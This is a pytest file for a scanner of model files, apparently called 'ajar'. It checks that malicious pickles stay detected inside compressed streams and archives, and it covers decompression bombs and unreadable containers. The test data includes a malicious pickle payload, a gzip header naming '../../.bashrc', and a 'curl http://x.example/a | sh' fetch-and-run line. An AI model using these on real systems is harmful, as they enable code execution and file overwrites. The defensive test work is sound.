"""Compressed streams: several in a row, padding, what stands behind them, what cannot be decoded."""

from __future__ import annotations

import bz2
import gzip
import lzma
import random
import struct
import sys
import zlib

import pytest

from ajar.config import Limits
from ajar.model.evidence import GapReason
from tests.build.containers import compressed, lzip, tarred, zip_of
from tests.build.pickles import command

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

EVIL = command()
RULE_KIND, RULE_OPEN = "file-is-one-kind-of-file", "archive-can-be-looked-into"
RULE_LIMITS = "archive-expands-within-limits"
SKIPPABLE = b"\x5a\x2a\x4d\x18" + struct.pack("<I", 4) + b"note"
PACKERS = {
    "gzip": gzip.compress,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "zstd": zstd.compress,
    "lzip": lzip,
}


def rules(found) -> set[str]:
    return {item.rule for item in found.findings}


@pytest.mark.parametrize("kind", PACKERS)
@pytest.mark.parametrize("name", ["m.pkl", "model.joblib", "x", "config.json", "variables.index", "a.py"])
def test_a_pickle_under_any_name(look, kind, name):
    assert look(PACKERS[kind](EVIL), name).level == "dangerous"


@pytest.mark.parametrize("kind", PACKERS)
def test_several_streams_are_one(look, kind):
    pack = PACKERS[kind]
    data = pack(EVIL[:3]) + pack(b"") + pack(EVIL[3:9]) + pack(EVIL[9:])
    found = look(data, "m.pkl.x")
    assert (found.level, found.gaps) == ("dangerous", ())


@pytest.mark.parametrize("kind", PACKERS)
def test_honest_streams_are_clean(look, kind):
    words = b"words about a model\n" * 20
    assert look(PACKERS[kind](words), "notes.txt.x").level == "clean"
    assert look(PACKERS[kind](tarred([("a.txt", words)])), "a.tar.x").level == "clean"


@pytest.mark.parametrize("kind", PACKERS)
def test_cut_short_is_unknown(look, kind):
    data = PACKERS[kind](random.Random(7).randbytes(2000))
    found = look(data[:-30], "x.bin")
    assert found.level == "unknown"
    assert found.gaps[0].reason is GapReason.MALFORMED


@pytest.mark.parametrize("kind", PACKERS)
def test_bytes_behind_the_stream_are_looked_at(look, kind):
    data = PACKERS[kind](b"words\n" * 9)
    found = look(data + EVIL, "notes.txt.x")
    assert found.level == "dangerous"
    assert RULE_KIND in rules(found)


@pytest.mark.parametrize("kind", ["gzip", "bzip2", "xz"])
def test_padding_is_nothing(look, kind):
    words, pack = b"words\n" * 9, PACKERS[kind]
    assert look(pack(words) + bytes(512), "notes.txt.x").level == "clean"
    assert look(pack(EVIL[:9]) + bytes(64) + pack(EVIL[9:]), "m.x").level == "dangerous"


@pytest.mark.parametrize("kind", ["gzip", "bzip2", "xz", "zstd"])
def test_a_bomb(look, kind):
    found = look(PACKERS[kind](bytes(4 << 20)), "m.x", limits=Limits(inflate_bytes=1 << 20))
    assert found.level == "caution"
    assert RULE_LIMITS in rules(found)


def test_large_and_honest_is_no_bomb(look):
    found = look(
        gzip.compress(random.Random(7).randbytes(3 << 20), 1), "m.gz", limits=Limits(inflate_bytes=1 << 20)
    )
    assert (found.level, found.findings) == ("unknown", ())
    assert found.gaps[0].reason is GapReason.OVER_BUDGET


def test_zstd_frames(look):
    assert look(SKIPPABLE + zstd.compress(EVIL), "m.zst").level == "dangerous"
    assert look(zstd.compress(EVIL[:5]) + SKIPPABLE + zstd.compress(EVIL[5:]), "m.zst").level == "dangerous"
    assert look(SKIPPABLE + zstd.compress(b"words\n"), "notes.zst").level == "clean"


def test_a_zstd_frame_with_a_dictionary_cannot_be_read(look):
    words = [b"some words %d about models %d" % (n, n * 7) for n in range(900)]
    frame = zstd.compress(EVIL * 4, zstd_dict=zstd.train_dict(words, 4096))
    found = look(frame, "m.zst")
    assert (found.level, rules(found)) == ("caution", {RULE_OPEN})
    assert "dictionary" in found.gaps[0].detail


@pytest.mark.parametrize("exponent", [18, 27, 31])
def test_a_zstd_window_past_the_limit_takes_no_memory(look, exponent):
    """A frame may ask for 3.75 TiB. RFC 8878, 3.1.1.1.2."""
    frame = b"(\xb5/\xfd" + bytes([0, exponent << 3]) + b"\x01\x00\x00"
    found = look(frame, "m.zst")
    assert found.level == "caution"
    assert found.gaps[0].reason is GapReason.OVER_BUDGET


def test_streams_that_need_too_much_memory_are_named(look):
    """Headers that ask for a dictionary of 1 GiB and more; Python's `lzma.open` would take it."""
    xz = bytearray(lzma.compress(EVIL))
    header = 12  # size, flags, filter, size of its properties, properties
    xz[header + 4] = 38
    length = (xz[header] + 1) * 4
    xz[header + length - 4 : header + length] = struct.pack(
        "<I", zlib.crc32(xz[header : header + length - 4])
    )
    alone = bytearray(lzma.compress(EVIL, lzma.FORMAT_ALONE))
    alone[1:5] = struct.pack("<I", 1 << 30)
    for data in (bytes(xz), bytes(alone)):
        found = look(data, "m.xz")
        assert (found.level, rules(found)) == ("caution", {RULE_LIMITS})
        assert found.gaps[0].reason is GapReason.OVER_BUDGET


def test_xz_at_its_highest_is_read(look):
    assert look(lzma.compress(EVIL, preset=9 | lzma.PRESET_EXTREME), "m.xz").level == "dangerous"


@pytest.mark.parametrize("data", [EVIL, EVIL * 200], ids=["short", "long"])
def test_compress(look, data):
    found = look(compressed(data), "m.Z")
    assert (found.level, found.gaps) == ("dangerous", ())


def test_compress_to_the_byte():
    from ajar.blobs import BytesBlob
    from ajar.safety.lzw import pieces

    for data in (
        b"abab" * 3,
        b"a" * 300_000,
        random.Random(7).randbytes(150_000),
        b"words about models " * 9000,
    ):
        assert b"".join(pieces(BytesBlob(compressed(data)))) == data


def test_a_code_that_is_not_yet_known(look):
    found = look(b"\x1f\x9d\x90" + b"\xff" * 30, "m.Z")
    assert found.level == "unknown"


@pytest.mark.parametrize("magic", [b"\x04\x22\x4d\x18\x60\x40\x82", b"\x02\x21\x4c\x18"])
def test_lz4_frames(look, magic):
    literals = bytes([0xF0, len(EVIL) - 15]) + EVIL
    frame = magic + struct.pack("<I", len(literals)) + literals + (bytes(4) if magic[0] == 4 else b"")
    assert look(frame, "m.lz4").level == "dangerous"
    assert look(frame * 2, "m.lz4").level == "dangerous"
    assert look(frame[:-20], "m.lz4").level == "unknown"


def test_the_name_in_a_gzip_header(look):
    def named(name: bytes, data: bytes) -> bytes:
        body = gzip.compress(data, mtime=0)
        return body[:3] + b"\x08" + body[4:10] + name + b"\0" + body[10:]

    assert look(named(b"notes.txt", b"words\n"), "x.gz").level == "clean"
    assert look(named(b"../../.bashrc", b"words\n"), "x.gz").level == "dangerous"
    code = b"import os\nos.system('curl http://x.example/a | sh')\n"
    assert look(named(b"setup.py", code), "notes.txt.gz").level == "dangerous"


@pytest.mark.parametrize(
    ("method", "pack"),
    [
        (12, bz2.compress),
        (93, zstd.compress),
        (20, zstd.compress),
        (95, lzma.compress),
        (
            14,
            lambda data: (
                b"\x09\x14\x05\x00]\x00\x00\x10\x00"
                + lzma.compress(
                    data,
                    lzma.FORMAT_RAW,
                    filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 20, "lc": 3, "lp": 0, "pb": 2}],
                )
            ),
        ),
    ],
)
def test_zip_methods(look, method, pack):
    found = look(zip_of("m.pkl", pack(EVIL), method, len(EVIL)), "m.zip")
    assert (found.level, found.gaps) == ("dangerous", ())
    honest = look(zip_of("a.txt", pack(b"words\n"), method, 6), "m.zip")
    assert honest.level == "clean"
    broken = look(zip_of("m.bin", pack(random.Random(7).randbytes(999))[:-40], method, 999), "m.zip")
    assert broken.level == "unknown"


@pytest.mark.parametrize(
    ("method", "name"), [(9, "Deflate64"), (98, "PPMd"), (97, "WavPack"), (77, "method 77")]
)
def test_zip_methods_that_are_not_read(look, method, name):
    found = look(zip_of("m.pkl", b"\x01\x02\x03", method, 100), "m.zip")
    assert (found.level, rules(found)) == ("caution", {RULE_OPEN})
    assert name in found.gaps[0].detail


def test_zip_lzma_properties_that_are_none(look):
    found = look(zip_of("m.pkl", b"\x09\x14\x05\x00\xff\x00\x00\x10\x00abc", 14, 100), "m.zip")
    assert found.level == "unknown"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"MSCF\0\0\0\0" + bytes(40), "x"),
        (b"xar!" + bytes(40), "x"),
        (b"hsqs" + bytes(90), "x"),
        (b"\xff\x06\x00\x00sNaPpY" + bytes(20), "m.pkl"),
        (b"\x89LZO\x00\r\n\x1a\n" + bytes(20), "x"),
        (b"!<thin>\n" + b"a.o/".ljust(58) + b"`\n", "libx.a"),
        (bytes(32769) + b"CD001\x01" + bytes(4000), "x.iso"),
        (b"\x01" * 1000 + b"koly" + bytes(508), "x"),
        (b"\x0b\x02\x80" + b"\x81\x82" * 40, "model.tar.br"),
        (b"\x24\xb5/\xfd" + bytes(40), "x.zst"),
        (b"\x00\x01-lh5-" + bytes(40), "x.lzh"),
        (b"\xc7\x71" + bytes(18) + b"\x02\x00" + bytes(4) + b"a\0", "x.cpio"),
    ],
)
def test_containers_that_are_not_opened_are_named(look, data, name):
    found = look(data, name)
    assert (found.level, rules(found)) == ("caution", {RULE_OPEN})
    assert found.gaps


def test_text_that_begins_like_a_zlib_stream_is_text(look):
    assert zlib.compress(b"")[:1] == b"x"
    for text in ("x = 1\n", "x^2 is a square\n", "x\x9c"):
        assert look(text, "notes.txt").level == "clean"


@pytest.mark.parametrize("kind", PACKERS)
@pytest.mark.parametrize("name", ["m.pkl", "model.joblib"])
def test_an_honest_pickle_behind_a_compressor_is_clean(look, kind, name):
    honest = b"\x80\x04}\x8c\x07weights]G?\xf0\x00\x00\x00\x00\x00\x00as."
    assert look(PACKERS[kind](honest), name).level == "clean"
